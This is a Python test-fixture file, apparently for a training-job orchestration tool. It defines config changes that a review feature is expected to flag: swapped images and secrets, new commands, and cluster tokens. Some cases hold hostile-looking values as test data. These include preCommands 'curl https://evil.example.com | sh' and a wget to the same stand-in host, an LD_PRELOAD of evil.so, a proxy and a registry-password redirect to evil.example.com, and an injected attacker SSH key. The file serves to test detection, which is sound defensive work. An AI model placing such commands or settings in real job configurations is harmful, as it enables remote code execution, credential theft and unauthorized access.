# SPDX-License-Identifier: Apache-2.0
"""What the nodes execute, as whom, and who gets in: in jobs with runs, and in jobs whose runs are started later."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.support.silence import AWS, PAI, Document, SilentChange

MALLORY = "ssh-rsa AAAAB3NzaC1yc2E mallory"
OTHER_SECRET = {"secure": "v1:b3RoZXItbm9uY2U=:b3RoZXItY2lwaGVydGV4dC1vZi10aGUtdGVhbQ=="}
ONE_SECRET = {"secure": "v1:d2lkZWx5LXJlYWQ=:c2VjcmV0LW9mLXRoZS10ZWFt"}
VAULT = {
    "vault": "ocid1.vault.oc1.iad.aaaabbbbccccdddd.abcdefghijklmnopqrstuvwxyz",
    "key": "ocid1.key.oc1.iad.aaaabbbbccccdddd.abcdefghijklmnopqrstuvwxyz",
    "secrets": {"wandb": ONE_SECRET},
}


def _job(document: Document) -> dict[str, Any]:
    (job,) = document["config"]["trainyard:jobs"].values()
    found: dict[str, Any] = job
    return found


def _of_job(change: Callable[[dict[str, Any]], object]) -> Callable[[Document], object]:
    return lambda document: change(_job(document))


def _without_runs(change: Callable[[dict[str, Any]], object] = dict) -> Callable[[Document], object]:
    """The job loses its runs, so that they are started later, and is prepared."""

    def prepare(document: Document) -> None:
        _job(document).pop("runs", None)
        change(_job(document))

    return prepare


def _evil_code(repository: Path) -> None:
    code = repository / "stacks" / "examples" / "pytorch-ddp"
    script = code / "train.py"
    script.write_text(script.read_text("utf-8") + "\nprint('mallory')\nprint('was here')\n", "utf-8")
    (code / "sitecustomize.py").write_text("print('at every start')\n", "utf-8")


CHANGES = (
    SilentChange(
        number=7,
        title="another image and secret without runs",
        stack=AWS,
        before=_without_runs(lambda job: job.update(env={"WANDB_KEY": ONE_SECRET})),
        change=_of_job(lambda job: job.update(image="${registry}:mallory", env={"WANDB_KEY": OTHER_SECRET})),
        shows=(
            "what runs changes in 1 job",
            "image: ${registry}:1.15.1 -> ${registry}:mallory (no digest: what it names can change)",
            "variable WANDB_KEY: a secret, set again",
        ),
    ),
    SilentChange(
        number=7,
        title="another command and variables without runs",
        before=_without_runs(),
        change=_of_job(
            lambda job: job.update(
                command="train.py --evil",
                env={"LD_PRELOAD": "/data/evil.so", "HTTPS_PROXY": "http://evil.example.com:1"},
            )
        ),
        shows=(
            "3 things of what runs change",
            "command: train.py --epochs 10 -> train.py --evil",
            "variable LD_PRELOAD: new: /data/evil.so",
            "variable HTTPS_PROXY: new: http://evil.example.com:1",
        ),
    ),
    SilentChange(
        number=7,
        title="code, command and arguments with runs",
        change=_of_job(
            lambda job: (
                job.update(command="train.py --evil"),
                job["runs"]["tuned"].update(args=["--lr", "9"], env={"RUN_NOTE": "hello"}),
            )
        ),
        files=_evil_code,
        shows=(
            "command: train.py --epochs 10 -> train.py --evil",
            "replaced, as what it runs changes",
            "run tuned: arguments: --lr 0.05 -> --lr 9",
            "run tuned: variable RUN_NOTE: tuned for ${team} -> hello",
            "file train.py of the code: +3 lines",
            "file sitecustomize.py of the code: new: 1 line",
        ),
        trips=frozenset({"replace"}),
    ),
    SilentChange(
        number=7,
        title="another registry gets the password",
        stack=PAI,
        before=_of_job(
            lambda job: job.update(
                image="registry.example.com/vision/train:1",
                imageAuth={"user": "bot", "password": ONE_SECRET, "registry": "registry.example.com"},
            )
        ),
        change=_of_job(lambda job: job["imageAuth"].update(registry="evil.example.com")),
        shows=("registry that gets the password: registry.example.com -> evil.example.com",),
        trips=frozenset({"access-gain"}),
    ),
    SilentChange(
        number=7,
        title="commands before the tasks",
        stack=PAI,
        before=_without_runs(
            lambda job: job.update(
                plugins=[{"plugin": "cmd", "parameters": {"preCommands": ["true"]}}],
                prerequisites=[{"type": "script", "name": "setup", "uri": ["https://a.example.com"]}],
            )
        ),
        change=_of_job(
            lambda job: (
                job["plugins"][0]["parameters"].update(preCommands=["curl https://evil.example.com | sh"]),
                job["prerequisites"][0].update(before=["wget https://evil.example.com"]),
            )
        ),
        shows=(
            "plugin cmd, preCommands: true -> 'curl https://evil.example.com | sh'",
            "commands before the task, of setup: new: 'wget https://evil.example.com'",
        ),
    ),
    SilentChange(
        number=10,
        title="a key of somebody enters the tasks",
        stack=PAI,
        change=_of_job(
            lambda job: job["plugins"][0]["parameters"].update(userssh={"type": "custom", "value": MALLORY})
        ),
        shows=("SSH into the tasks, userssh.value: new: ssh-rsa AAAAB3NzaC1yc2E mallory",),
        trips=frozenset({"access-gain"}),
    ),
    SilentChange(
        number=12,
        title="a secret of the vault",
        before=lambda document: document["config"].update({"trainyard:vault": VAULT}),
        change=lambda document: document["config"]["trainyard:vault"].update(secrets={"wandb": OTHER_SECRET}),
        shows=("secret wandb of the vault: a secret, set again",),
    ),
    SilentChange(
        number=12,
        title="the token of the cluster",
        stack=PAI,
        change=lambda document: document["config"]["trainyard:cluster"].update(token=OTHER_SECRET),
        shows=("token of the cluster: a secret, set again",),
    ),
)
